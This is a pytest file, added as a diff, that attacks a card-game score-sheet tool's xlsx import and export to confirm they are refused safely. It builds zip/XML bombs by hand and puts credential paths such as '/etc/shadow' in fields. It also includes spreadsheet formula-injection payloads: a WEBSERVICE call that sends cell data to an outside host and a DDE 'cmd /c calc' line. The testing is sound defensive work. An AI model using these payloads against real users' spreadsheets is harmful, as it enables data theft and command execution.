@@ -1,0 +1,520 @@
+"""Workbooks from strangers and workbooks we write, tried as an attacker would (issue 7).
+
+Bombs are built with zipfile directly and checked by `scorekeeper check` in a subprocess whose
+time and peak memory are measured; every refusal is one line and exit 2.
+"""
+import csv
+import os
+import re
+import shutil
+import subprocess
+import sys
+import threading
+import time
+import zipfile
+
+import openpyxl
+import pytest
+import yaml
+
+from conftest import EXAMPLES, run
+from scorekeeper.boletim import safe_read
+from scorekeeper.errors import ScorekeeperError
+from scorekeeper.sheets import load_sheet
+
+FINAL = EXAMPLES / "king-final-nacional-mesa1.yaml"
+RULES = EXAMPLES.parent / "rules"
+MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
+
+
+# --- building workbooks by hand --------------------------------------------------------------
+
+def make_workbook(path, sheets, shared=None):
+    """A minimal .xlsx: `sheets` is [(title, sheetData XML bytes)], `shared` the <sst> body."""
+    overrides = "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{SHEET_TYPE}"/>'
+                        for i in range(1, len(sheets) + 1))
+    if shared is not None:
+        overrides += ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
+                      'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
+    types = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+             '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+             '<Default Extension="xml" ContentType="application/xml"/>'
+             '<Override PartName="/xl/workbook.xml" ContentType="application/'
+             f'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>{overrides}</Types>')
+    root_rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+                 'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
+                 '2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
+    entries = "".join(f'<sheet name="{title}" sheetId="{i}" r:id="rId{i}"/>'
+                      for i, (title, _) in enumerate(sheets, start=1))
+    workbook = f'<?xml version="1.0"?><workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><sheets>{entries}</sheets></workbook>'
+    rels = "".join(f'<Relationship Id="rId{i}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{i}.xml"/>'
+                   for i in range(1, len(sheets) + 1))
+    if shared is not None:
+        rels += f'<Relationship Id="rIdS" Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/>'
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", types)
+        archive.writestr("_rels/.rels", root_rels)
+        archive.writestr("xl/workbook.xml", workbook)
+        archive.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0"?><Relationships xmlns="http://'
+                         f'schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>')
+        for i, (_, data) in enumerate(sheets, start=1):
+            archive.writestr(f"xl/worksheets/sheet{i}.xml", b'<?xml version="1.0"?><worksheet xmlns="'
+                             + MAIN_NS.encode() + b'"><sheetData>' + data + b"</sheetData></worksheet>")
+        if shared is not None:
+            archive.writestr("xl/sharedStrings.xml", b'<?xml version="1.0"?><sst xmlns="' + MAIN_NS.encode()
+                             + b'" xmlns:x="' + MAIN_NS.encode() + b'">' + shared + b"</sst>")
+    return path
+
+
+# The peak memory of this process alone: VmHWM starts afresh at exec, while ru_maxrss keeps the
+# parent's size from the fork (pytest's own memory) on Linux.
+MEASURED = ("import resource, sys\n"
+            "from scorekeeper.cli import main\n"
+            "sys.argv = ['scorekeeper'] + sys.argv[1:]\n"
+            "def peak():\n"
+            "    try:\n"
+            "        with open('/proc/self/status') as status:\n"
+            "            return next(int(l.split()[1]) for l in status if l.startswith('VmHWM:'))\n"
+            "    except OSError:\n"
+            "        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
+            "try:\n    main()\n"
+            "finally:\n"
+            "    sys.stderr.write(f'maxrss {peak()}\\n')\n")
+
+
+def measured_check(path):
+    """`scorekeeper check path` in a fresh process: (exit code, stderr lines, seconds, peak MiB)."""
+    start = time.monotonic()
+    done = subprocess.run([sys.executable, "-c", MEASURED, "check", str(path)], capture_output=True, text=True,
+                          timeout=60)
+    seconds = time.monotonic() - start
+    lines = done.stderr.splitlines()
+    peak = int(lines[-1].split()[1]) / 1024
+    return done.returncode, lines[:-1], seconds, peak
+
+
+def assert_refused(path, expected):
+    code, lines, seconds, peak = measured_check(path)
+    assert (code, lines) == (2, [f"Error: {path}: {expected}"])
+    assert seconds < 5, seconds
+    assert peak < 300, peak
+
+
+def king_entries(sheet):
+    return [(e.hand, e.counts, e.points, e.tricks, e.penalty, e.offenders, e.beneficiary, e.contract, e.trump,
+             e.offer) for e in sheet.entries]
+
+
+# --- 1. work caps ------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("element", [b"<si><t>a</t></si>", b"<x:si><x:t>a</x:t></x:si>"], ids=["plain", "prefixed"])
+def test_shared_string_bomb(tmp_path, element):
+    count = min(3_500_000, (60 << 20) // len(element))  # all a part may unpack to (64 MiB)
+    path = make_workbook(tmp_path / "strings.xlsx", [("S", b"")], shared=element * count)
+    assert path.stat().st_size < 400_000
+    assert_refused(path, "the workbook holds more than 100,000 shared strings (in 'xl/sharedStrings.xml'); "
+                         "a workbook of boletins needs a few thousand")
+
+
+def test_empty_row_bomb(tmp_path):
+    path = make_workbook(tmp_path / "rows.xlsx", [("S", b'<row r="1"/>' * 1_600_000)])
+    assert_refused(path, "'xl/worksheets/sheet1.xml' holds more than 600,000 XML tags; a boletim's parts hold "
+                         "some thousands")
+
+
+def test_rows_that_do_not_advance_are_counted(tmp_path):
+    path = make_workbook(tmp_path / "rows.xlsx", [("S", b'<row r="1"/>' * 12_000)])
+    assert_refused(path, "worksheet 'S' has more than 10,000 rows; a boletim has a few hundred")
+
+
+def test_cells_of_one_worksheet_are_capped(tmp_path):
+    path = make_workbook(tmp_path / "cells.xlsx", [("S", b'<row r="1">' + b'<c r="A1"/>' * 120_000 + b"</row>")])
+    assert_refused(path, "worksheet 'S' has more than 100,000 cells; a boletim has some thousands")
+
+
+def test_rows_of_the_whole_workbook_are_capped(tmp_path):
+    sheets = [(f"S{i}", b'<row r="1"/>' * 9_000) for i in range(25)]
+    path = make_workbook(tmp_path / "many.xlsx", sheets)
+    assert_refused(path, "the workbook has more than 200,000 rows; 500 boletins have some 23,000")
+
+
+def test_a_lying_dimension_costs_nothing(tmp_path):
+    path = make_workbook(tmp_path / "far.xlsx", [("S", b'<row r="2000000"><c r="A2000000"><v>1</v></c></row>')])
+    assert_refused(path, "worksheet 'S' reaches A2000000; a boletim fits well inside BH1000")
+
+
+def test_the_read_has_a_deadline(tmp_path, monkeypatch):
+    workbook = tmp_path / "final.xlsx"
+    assert run("export", FINAL, "-o", workbook).exit_code == 0
+    monkeypatch.setattr(safe_read, "DEADLINE_SECONDS", 0.000001)
+    result = run("check", workbook)
+    assert (result.exit_code, result.stderr) == (2, f"Error: {workbook}: reading the workbook took more than "
+                                                    "1e-06 s: refused (a workbook of boletins reads in about a "
+                                                    "second)\n")
+
+
+def test_the_deadline_holds_outside_the_main_thread(tmp_path, monkeypatch):
+    """No SIGALRM in a thread: the readers check the clock themselves."""
+    workbook = tmp_path / "final.xlsx"
+    assert run("export", FINAL, "-o", workbook).exit_code == 0
+    monkeypatch.setattr(safe_read, "DEADLINE_SECONDS", 0.0)
+    from scorekeeper.boletim.workbook import read_workbook
+
+    errors = []
+
+    def read():
+        try:
+            read_workbook(str(workbook))
+        except ScorekeeperError as exc:
+            errors.append(str(exc))
+
+    thread = threading.Thread(target=read)
+    thread.start()
+    thread.join(10)
+    assert errors == [f"{workbook}: reading the workbook took more than 0 s: refused (a workbook of boletins "
+                      "reads in about a second)"]
+
+
+def test_a_500_sheet_export_reads_within_the_caps(tmp_path):
+    """500 boletins (the exported worksheet of the final, 500 times) check clean."""
+    single = tmp_path / "one.xlsx"
+    assert run("export", FINAL, "-o", single).exit_code == 0
+    with zipfile.ZipFile(single) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml")
+        styles = archive.read("xl/styles.xml")
+    data = sheet[sheet.index(b"<sheetData>") + len(b"<sheetData>"):sheet.index(b"</sheetData>")]
+    path = make_workbook(tmp_path / "five-hundred.xlsx", [(f"Mesa{i}", data) for i in range(500)])
+    with zipfile.ZipFile(path, "a") as archive:
+        archive.writestr("xl/styles.xml", styles)
+    code, lines, seconds, peak = measured_check(path)
+    assert (code, lines) == (0, [])
+    assert peak < 300
+
+
+def test_openpyxl_warnings_do_not_leak(tmp_path):
+    """A data validation extension makes openpyxl warn; nothing but our lines reaches stderr."""
+    workbook = tmp_path / "final.xlsx"
+    assert run("export", FINAL, "-o", workbook).exit_code == 0
+    patched = tmp_path / "ext.xlsx"
+    with zipfile.ZipFile(workbook) as source, zipfile.ZipFile(patched, "w") as target:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "xl/workbook.xml":
+                data = data.replace(b"</workbook>", b'<extLst><ext uri="{x}"><foo/></ext></extLst></workbook>')
+            target.writestr(item, data)
+    done = subprocess.run([sys.executable, "-m", "scorekeeper", "check", str(patched)], capture_output=True,
+                          text=True, timeout=60)
+    assert (done.returncode, done.stderr) == (0, "")
+
+
+def test_a_fifo_is_refused_without_hanging(tmp_path):
+    fifo = tmp_path / "pipe.xlsx"
+    os.mkfifo(fifo)
+    code, lines, seconds, _ = measured_check(fifo)
+    assert (code, lines) == (2, [f"Error: {fifo}: is not a regular file (a pipe, device or socket): refused"])
+    assert seconds < 5
+
+
+# --- 2. numbers no cell of a score sheet holds -----------------------------------------------
+
+def patch_cell(workbook, out, reference, xml):
+    """Replace one cell's XML in the first worksheet of an exported workbook."""
+    with zipfile.ZipFile(workbook) as source, zipfile.ZipFile(out, "w") as target:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data, count = re.subn(rf'<c r="{reference}"[^>]*?(/>|>.*?</c>)'.encode(), xml.encode(), data)
+                assert count == 1
+            target.writestr(item, data)
+    return out
+
+
+@pytest.mark.parametrize("value, message", [
+    ("nan", "nan is not a number"),
+    ("inf", "inf is not a number"),
+    ("-inf", "-inf is not a number"),
+    ("1e400", "inf is not a number"),
+    ("1e20", "1e+20 is out of range (a score sheet's numbers are below 1,000,000,000,000)"),
+    ("9" * 5000, f"{'9' * 80!r}... (5000 characters) is not a number"),
+])
+def test_numbers_no_sheet_holds_are_refused_at_their_cell(tmp_path, value, message):
+    workbook = tmp_path / "final.xlsx"
+    assert run("export", FINAL, "-o", workbook).exit_code == 0
+    out = patch_cell(workbook, tmp_path / "patched.xlsx", "L6", f'<c r="L6"><v>{value}</v></c>')
+    result = run("check", out)
+    assert (result.exit_code, result.stderr) == (2, f"Error: {out}:Mesa1 R1!L6: {message}\n")
+
+
+@pytest.mark.parametrize("text", ["nan", "Infinity", "1e400"])
+def test_numbers_typed_as_text_are_refused_at_their_cell(tmp_path, text):
+    workbook = tmp_path / "final.xlsx"
+    assert run("export", FINAL, "-o", workbook).exit_code == 0
+    out = patch_cell(workbook, tmp_path / "patched.xlsx", "L6", f'<c r="L6" t="inlineStr"><is><t>{text}</t></is></c>')
+    result = run("check", out)
+    assert result.exit_code == 2
+    assert result.stderr == f"Error: {out}:Mesa1 R1!L6: '{text}' is not a number\n"
+
+
+# --- 3. round trips at the maximum sizes -----------------------------------------------------
+
+def round_trip(tmp_path, text):
+    sheet = tmp_path / "sheet.yaml"
+    sheet.write_text(text, encoding="utf-8")
+    workbook = tmp_path / "sheet.xlsx"
+    exported = run("export", sheet, "-o", workbook)
+    assert exported.exit_code == 0, exported.output
+    imported = run("import", workbook, "-o", "-")
+    assert imported.exit_code == 0, imported.output
+    return yaml.safe_load(text), yaml.safe_load(imported.stdout)
+
+
+def test_a_400_hand_truco_sheet_comes_back_whole(tmp_path):
+    hands = [{"winner": "Nos" if i % 3 else "Eles", "value": 3} if i % 7 == 0 else {"winner": "Eles"}
+             for i in range(400)]
+    text = yaml.safe_dump({"rules": "truco", "teams": {"Nos": ["Ana", "Bruno"], "Eles": ["Carla", "Duarte"]},
+                           "hands": hands}, sort_keys=False, default_flow_style=None)
+    original, back = round_trip(tmp_path, text)
+    assert len(back["hands"]) == 400
+    assert back["hands"] == original["hands"]
+
+
+def test_a_400_deal_sueca_sheet_comes_back_whole(tmp_path):
+    deals = [{"points": [61 + i % 59, 59 - i % 59]} for i in range(400)]
+    text = yaml.safe_dump({"rules": "sueca", "teams": {"Nos": ["Ana", "Bruno"], "Eles": ["Carla", "Duarte"]},
+                           "deals": deals}, sort_keys=False, default_flow_style=None)
+    original, back = round_trip(tmp_path, text)
+    assert len(back["deals"]) == 400
+    assert back["deals"] == original["deals"]
+
+
+def test_a_100_hand_king_sheet_comes_back_whole(tmp_path):
+    hands = [{"hand": "vazas", "counts": [3, 3, 3, 4]} for _ in range(100)]
+    text = yaml.safe_dump({"rules": "king", "players": ["Ana", "Bruno", "Carla", "Duarte"], "hands": hands},
+                          sort_keys=False, default_flow_style=None)
+    original, back = round_trip(tmp_path, text)
+    assert len(back["hands"]) == 100
+    assert back["hands"] == original["hands"]
+
+
+def test_a_ficha_with_more_numbered_rows_than_are_read_is_refused(tmp_path):
+    rows = b"".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>'.encode() for r in range(6, 1001))
+    head = (b'<row r="3"><c r="B3" t="inlineStr"><is><t>Regras</t></is></c><c r="C3" t="inlineStr"><is><t>truco'
+            b'</t></is></c></row><row r="4"><c r="H4" t="inlineStr"><is><t>Nos</t></is></c><c r="L4" t="inlineStr">'
+            b'<is><t>Eles</t></is></c></row><row r="5"><c r="A5" t="inlineStr"><is><t>N\xc2\xba</t></is></c></row>')
+    path = make_workbook(tmp_path / "long.xlsx", [("S", head + rows)])
+    result = run("check", path)
+    assert (result.exit_code, result.stderr) == (2, f"Error: {path}:S!A1000: numbered rows go on past row 1000; "
+                                                    "a ficha holds at most 400 hands\n")
+
+
+# --- 4. Regras names shipped rules only -------------------------------------------------------
+
+def with_regras(tmp_path, text):
+    workbook = tmp_path / "final.xlsx"
+    if not workbook.exists():
+        assert run("export", FINAL, "-o", workbook).exit_code == 0
+    wb = openpyxl.load_workbook(workbook)
+    wb["Mesa1 R1"]["C3"] = text
+    out = tmp_path / "regras.xlsx"
+    wb.save(out)
+    return out
+
+
+@pytest.mark.parametrize("ref", ["/dev/stdin", "/etc/shadow", "/nonexistent/rules.yaml", "../king.yaml",
+                                 "king.yaml"])
+def test_a_path_in_regras_is_refused_the_same_way_whatever_it_names(tmp_path, ref):
+    out = with_regras(tmp_path, ref)
+    start = time.monotonic()
+    for command in ("check", "import"):
+        args = [command, out] + (["-o", "-"] if command == "import" else [])
+        result = run(*args)
+        assert (result.exit_code, result.stderr) == (
+            2, f"Error: {out}:Mesa1 R1!C3: Regras: {ref!r} is a path; a workbook names shipped rules only "
+               "(king, sueca, truco); `--rules PATH` gives a house variant\n")
+    assert time.monotonic() - start < 5
+
+
+def test_a_path_in_regras_is_read_with_the_users_rules(tmp_path):
+    out = with_regras(tmp_path, "/dev/stdin")
+    result = run("check", out, "--rules", RULES / "king.yaml")
+    assert result.exit_code == 0, result.output
+    back = run("import", out, "-o", "-", "--rules", RULES / "king.yaml")
+    assert back.exit_code == 0
+    assert back.stdout.startswith("rules: king\n")  # the rules' name, never the workbook's path
+    assert king_entries(load_sheet(str(FINAL))) == king_entries(load_sheet("x.yaml", text=back.stdout))
+
+
+def test_an_unknown_name_in_regras_points_at_house_variants(tmp_path):
+    out = with_regras(tmp_path, "bisca")
+    result = run("check", out)
+    assert (result.exit_code, result.stderr) == (
+        2, f"Error: {out}:Mesa1 R1!C3: Regras: unknown rules 'bisca'; known: king, sueca, truco; "
+           "`--rules PATH` gives a house variant\n")
+
+
+def test_a_house_variant_round_trips_with_rules_path(tmp_path):
+    variant = tmp_path / "clube.yaml"
+    variant.write_text((RULES / "king.yaml").read_text(encoding="utf-8")
+                       .replace("name: king", "name: king-clube").replace("aliases: [rei]", "aliases: []"),
+                       encoding="utf-8")
+    sheet = tmp_path / "mesa.yaml"
+    sheet.write_text(FINAL.read_text(encoding="utf-8").replace("rules: king", "rules: clube.yaml"), encoding="utf-8")
+    workbook = tmp_path / "mesa.xlsx"
+    assert run("export", sheet, "-o", workbook).exit_code == 0
+    assert openpyxl.load_workbook(workbook)["Mesa1 R1"]["C3"].value == "king-clube"
+    refused = run("import", workbook, "-o", "-")
+    assert refused.exit_code == 2
+    assert "Regras: unknown rules 'king-clube'" in refused.stderr and "--rules PATH" in refused.stderr
+    back = run("import", workbook, "-o", "-", "--rules", variant)
+    assert back.exit_code == 0, back.output
+    assert back.stdout.startswith("rules: king-clube\n")
+    again = load_sheet(str(tmp_path / "back.yaml"), str(variant), text=back.stdout)
+    assert king_entries(load_sheet(str(sheet))) == king_entries(again)
+
+
+def test_a_blank_boletim_for_a_house_variant_names_it_not_its_path(tmp_path):
+    variant = tmp_path / "clube.yaml"
+    variant.write_text((RULES / "king.yaml").read_text(encoding="utf-8")
+                       .replace("name: king", "name: king-clube").replace("aliases: [rei]", "aliases: []"),
+                       encoding="utf-8")
+    blank = tmp_path / "blank.xlsx"
+    result = run("export", "--rules", variant, "-p", "Ana", "-p", "Bruno", "-p", "Carla", "-p", "Duarte", "-o", blank)
+    assert result.exit_code == 0, result.output
+    assert openpyxl.load_workbook(blank)["Boletim"]["C3"].value == "king-clube"
+    assert run("check", blank, "--rules", variant).exit_code == 0
+
+
+# --- 5. formula injection --------------------------------------------------------------------
+
+HOSTILE = ['=HYPERLINK("http://x","y")', "+1", "-Ana", "@SUM(A1)"]
+
+
+def renamed(value, names):
+    if isinstance(value, str):
+        return names.get(value, value)
+    if isinstance(value, list):
+        return [renamed(v, names) for v in value]
+    if isinstance(value, dict):
+        return {renamed(k, names): renamed(v, names) for k, v in value.items()}
+    return value
+
+
+def hostile_sheet(tmp_path, players=HOSTILE, event='=WEBSERVICE("http://x/?"&A1)'):
+    doc = yaml.safe_load(FINAL.read_text(encoding="utf-8"))
+    doc = renamed(doc, dict(zip(["Ana", "Bruno", "Carla", "Duarte"], players)))
+    doc["event"] = event
+    path = tmp_path / "hostile.yaml"
+    path.write_text(yaml.safe_dump(doc, sort_keys=False, allow_unicode=True, width=1000), encoding="utf-8")
+    return path
+
+
+def test_names_and_events_are_written_as_text_never_as_formulas(tmp_path):
+    sheet = hostile_sheet(tmp_path)
+    workbook = tmp_path / "hostile.xlsx"
+    result = run("export", sheet, "-o", workbook)
+    assert result.exit_code == 0, result.output
+    wb = openpyxl.load_workbook(workbook)
+    ws = wb["Mesa1 R1"]
+    hostile = set(HOSTILE) | {'=WEBSERVICE("http://x/?"&A1)'}
+    seen = set()
+    for row in ws.iter_rows():
+        for cell in row:
+            if cell.value in hostile:
+                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
+                seen.add(cell.value)
+            if isinstance(cell.value, str) and any(h in cell.value for h in hostile) and cell.data_type == "f":
+                pytest.fail(f"{cell.coordinate} runs a name: {cell.value}")
+    assert seen == hostile
+    assert [ws.cell(4, c).value for c in (12, 15, 18, 21)] == HOSTILE
+    back = run("import", workbook, "-o", "-")
+    assert back.exit_code == 0, back.output
+    again = load_sheet(str(tmp_path / "back.yaml"), text=back.stdout)
+    original = load_sheet(str(sheet))
+    assert (again.players, again.event) == (original.players, original.event)
+    assert king_entries(again) == king_entries(original)
+
+
+def test_team_names_are_written_as_text(tmp_path):
+    sheet = tmp_path / "truco.yaml"
+    sheet.write_text(yaml.safe_dump({"rules": "truco", "teams": {"=1+1": ["@A", "-B"], "+Eles": ["C", "D"]},
+                                     "event": "=cmd|'/c calc'!A1",
+                                     "hands": [{"winner": "=1+1", "value": 3}, {"winner": "+Eles"}]},
+                                    sort_keys=False), encoding="utf-8")
+    workbook = tmp_path / "truco.xlsx"
+    assert run("export", sheet, "-o", workbook).exit_code == 0
+    ws = openpyxl.load_workbook(workbook).worksheets[0]
+    formulas = [c.value for row in ws.iter_rows() for c in row
+                if c.data_type == "f" and any(t in str(c.value) for t in ("1+1", "@A", "-B", "+Eles", "calc"))]
+    assert formulas == []
+    back = run("import", workbook, "-o", "-")
+    assert back.exit_code == 0, back.output
+    assert yaml.safe_load(back.stdout)["teams"] == {"=1+1": ["@A", "-B"], "+Eles": ["C", "D"]}
+    assert [h["winner"] for h in yaml.safe_load(back.stdout)["hands"]] == ["=1+1", "+Eles"]
+
+
+def test_list_validations_survive_quotes_and_commas_in_names(tmp_path):
+    sheet = hostile_sheet(tmp_path, players=['Ana "A"', "Bruno, Jr", "Carla", "Duarte"], event="Torneio")
+    workbook = tmp_path / "names.xlsx"
+    assert run("export", sheet, "-o", workbook).exit_code == 0
+    ws = openpyxl.load_workbook(workbook)["Mesa1 R1"]
+    lists = {str(dv.sqref).split(":")[0]: dv.formula1 for dv in ws.data_validations.dataValidation
+             if dv.type == "list"}
+    assert lists["C6"] == '"Ana ""A"",Carla,Duarte"'  # the beneficiary: Bruno, Jr cannot be a list item
+    back = run("import", workbook, "-o", "-")
+    assert back.exit_code == 0, back.output
+    assert yaml.safe_load(back.stdout)["players"] == ['Ana "A"', "Bruno, Jr", "Carla", "Duarte"]
+
+
+SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
+
+
+@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
+@pytest.mark.parametrize("target", ["csv", "xlsx"])
+def test_libreoffice_keeps_hostile_names_as_text(tmp_path, target):
+    sheet = hostile_sheet(tmp_path)
+    workbook = tmp_path / "hostile.xlsx"
+    assert run("export", sheet, "-o", workbook).exit_code == 0
+    out = tmp_path / "converted"
+    subprocess.run([SOFFICE, f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless", "--convert-to",
+                    target, "--outdir", str(out), str(workbook)], capture_output=True, timeout=300, check=False)
+    converted = out / f"hostile.{target}"
+    assert converted.exists()
+    if target == "csv":
+        with open(converted, newline="", encoding="utf-8", errors="replace") as handle:
+            rows = list(csv.reader(handle))
+        assert rows[3][11::3][:4] == HOSTILE  # row 4: the players' names, as text, not results
+    else:
+        ws = openpyxl.load_workbook(converted).worksheets[0]
+        assert [(ws.cell(4, c).value, ws.cell(4, c).data_type) for c in (12, 15, 18, 21)] == \
+            [(name, "s") for name in HOSTILE]
+
+
+# --- 6. numbers a cell cannot hold are refused at export ----------------------------------------
+
+def test_export_of_a_huge_count_is_one_line(tmp_path):
+    from dataclasses import replace
+
+    from scorekeeper.boletim.export import build_workbook
+    from scorekeeper.sheets import score
+
+    sheet = load_sheet(str(FINAL))
+    result = score(sheet)
+    entry = sheet.entries[0]
+    sheet.entries[0] = replace(entry, counts={p: 10 ** 4000 for p in sheet.players})
+    with pytest.raises(ScorekeeperError) as caught:
+        build_workbook([(sheet, result)])
+    assert str(caught.value) == (f"{FINAL}: cannot export: a number of about 4001 digits is too large for a score "
+                                 "sheet's cell (at most 1,000,000,000,000)")
+
+
+def test_export_of_a_4000_digit_count_through_the_cli_is_one_line(tmp_path):
+    sheet = tmp_path / "huge.yaml"
+    sheet.write_text(FINAL.read_text(encoding="utf-8").replace("counts: [3, 2, 1, 7]",
+                                                               f"counts: [{'9' * 4000}, 2, 1, 7]"), encoding="utf-8")
+    result = run("export", sheet, "-o", tmp_path / "huge.xlsx")
+    assert result.exit_code == 2
+    assert len(result.stderr.splitlines()) == 1 and result.stderr.startswith(f"Error: {sheet}:")
+    assert "internal error" not in result.output
+    assert not (tmp_path / "huge.xlsx").exists()
